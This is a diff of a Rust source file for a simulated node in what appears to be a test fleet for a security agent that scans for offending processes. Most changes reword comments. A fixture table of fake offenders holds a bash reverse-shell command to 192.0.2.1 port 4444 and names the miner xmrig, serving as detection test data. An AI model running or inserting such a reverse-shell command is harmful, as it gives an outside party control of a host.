@@ -1,4 +1,4 @@
-//! One simulated node: what runs on it, and what its agent lists.
+//! One simulated node: the offenders that run on it, and its agent's list.
 
 use std::time::Duration;
 
@@ -9,19 +9,19 @@ use crate::record::{Record, stamp};
 
 /// How old the timestamps of [`Behaviour::StaleTimestamps`] are when the fleet starts.
 const STALE: SignedDuration = SignedDuration::from_hours(6);
-/// Nodes write timestamps in the zone the example in the wire contract uses, so that readers meet offsets.
+/// The zone of timestamps: that of the example in the wire contract, so that readers are tested with offsets.
 const ZONE: tz::Offset = tz::offset(8);
 
 pub(super) struct Node {
     number: usize,
     pub(super) behaviour: Behaviour,
     pub(super) mode: Mode,
-    /// What runs on the node, whether a scan has seen it or not.
+    /// The offenders that run on the node, whether a scan has seen them or not.
     pub(super) offenders: Vec<Record>,
     pub(super) requests: u64,
-    /// What the agent's list holds, with the time of the scan that put it there.
+    /// The agent's list: each record with the time of its scan.
     listed: Vec<(Timestamp, Record)>,
-    /// Whose turn it is in upstream mode.
+    /// The index of the offender that is listed next in upstream mode.
     turn: usize,
     scanned: Timestamp,
     started: Timestamp,
@@ -57,7 +57,7 @@ impl Node {
         }
     }
 
-    /// What a restart of the agent forgets. The node's processes run on.
+    /// Restarts the agent: its list is empty. The node's processes run on.
     pub(super) fn restart(&mut self) {
         self.listed.clear();
     }
@@ -80,7 +80,7 @@ impl Node {
         }
     }
 
-    /// A tenant of this kind: one of the node's own.
+    /// A record of a tenant that only this node has.
     pub(super) fn beside(&self, kind: &str) -> Record {
         let pod = format!("{kind}-{}", self.number);
         Record {
@@ -135,7 +135,7 @@ pub(super) fn offender(seed: u64, node: usize, which: usize, tenants: usize) -> 
         ("bash", "", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
     ];
     let hash = mix(seed ^ mix(((node as u64) << 32) | which as u64));
-    // The first offender of each node is the one the demo and its texts speak of.
+    // The first offender of each node is the one that the demo shows.
     let kind = if which == 0 { 0 } else { hash % 4 };
     let (process, regex, cmdline) =
         KINDS.get(usize::try_from(kind).unwrap_or(0)).copied().unwrap_or(("xmrig", "", "xmrig"));
